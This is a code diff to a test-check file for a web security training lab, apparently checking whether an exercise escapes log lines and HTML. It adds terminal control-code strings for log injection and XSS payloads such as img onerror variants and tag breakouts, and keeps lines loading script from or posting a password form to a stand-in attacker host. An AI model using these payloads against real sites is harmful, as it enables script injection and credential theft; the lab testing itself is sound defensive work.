@@ -3,6 +3,7 @@ import { inertHtml } from '../../../src/features/web-lab/core/inertHtml';
 import { defineChecks } from '../../../src/features/web-lab/core/lab';
 import { failUnlessShown, failure } from '../../../src/features/web-lab/core/probe';
 import { attempt, failIfMarkup, failIfRaw, failIfSeen, logged, reader } from './attempts';
+import { linesOf, mentions, parsed } from './logLines';
 import { mistakes } from './mistakes';
 import { seenLines } from './seenLines';
 import { world, type Facts } from './world';
@@ -18,18 +19,6 @@ const NEW_LINE = [
   'Sau yêu cầu này, tệp nhật ký hoặc nhật ký của máy chủ có thêm một dòng do người lạ viết.',
   'After this request, the log file or the log of the server has one more line, written by a stranger.',
 ] as const;
-
-const parsed = (line: string): Record<string, unknown> | undefined => {
-  try {
-    const value: unknown = JSON.parse(line);
-    return typeof value === 'object' && value !== null ? (value as Record<string, unknown>) : undefined;
-  } catch {
-    return undefined;
-  }
-};
-
-const linesOf = ({ response }: Exchange) => response.body.split(/\r\n|\r|\n/);
-const mentions = (text: string, name: string) => text.includes(name) || text.includes(encodeURIComponent(name));
 
 export const checks = defineChecks<Facts>({
   world,
@@ -117,9 +106,18 @@ export const checks = defineChecks<Facts>({
       run: (trial) =>
         failIfRaw(
           trial,
-          ['\u001b[1A\u001b[2K', '\u001b[8m', '\u001b]0;k\u0007', '\b\b\b\b\b\b', '\u000b', '\u000c'].map(
-            (code) => [`x${code}kho`, `${code}kho`] as const,
-          ),
+          [
+            '\u001b[1A\u001b[2K',
+            '\u001b[8m',
+            '\u001b]0;k\u0007',
+            '\b\b\b\b\b\b',
+            '\u000b',
+            '\u000c',
+            '\u0000',
+            '\u0005',
+            '\u000e',
+            '\u001a',
+          ].map((code) => [`x${code}kho`, `${code}kho`] as const),
           CONTROL,
         ),
     },
@@ -183,11 +181,16 @@ export const checks = defineChecks<Facts>({
           `<scr<script>ipt>${name}()</scr</script>ipt>`,
           `<script src="http://webwolf/${name}"></script>`,
           `<img src=x onerror=${name}()>`,
+          `<img src=x onerror =${name}()>`,
+          `<<b>img src=x onerror=${name}()>`,
+          `</textarea></xmp></title><img src=x onerror=${name}()>`,
+          `<${name} onmouseover=${name}()>`,
           // A browser takes the next `>` of the page.
           `<img src=x onerror=${name}() `,
-          `</pre><svg onload="${name}()">`,
           `<a href="javascript:${name}()">x</a>`,
           `<form action="http://webwolf/${name}"><input name="password"></form>`,
+          // Last, because nothing behind an open `svg` is shown.
+          `</pre><svg onload="${name}()">`,
         ]),
     },
     {
